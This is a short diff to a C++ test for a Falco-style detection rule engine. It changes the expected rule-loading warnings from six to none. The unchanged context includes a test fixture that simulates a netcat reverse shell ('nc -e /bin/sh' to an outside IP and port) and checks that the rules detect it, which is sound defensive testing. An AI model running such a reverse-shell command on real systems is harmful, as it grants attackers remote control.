@@ -480,7 +480,7 @@ TEST_CASE("Falco-style rules load unchanged and fire", "[default_rules][falco]")
     REQUIRE(r != nullptr);
     CHECK(r->rule_count() == 4);
     INFO(Catch::Detail::stringify(warnings));
-    CHECK(warnings.size() == 6);  // required_engine_version, and user.name, user.loginuid in outputs
+    CHECK(warnings.empty());  // user.name and user.loginuid, in its outputs, are fields now
 
     const auto ds = detect(exec_scene("/usr/bin/nc", {"nc", "-e", "/bin/sh", "10.0.0.1", "4444"}), *r);
     REQUIRE(ds.size() == 2);
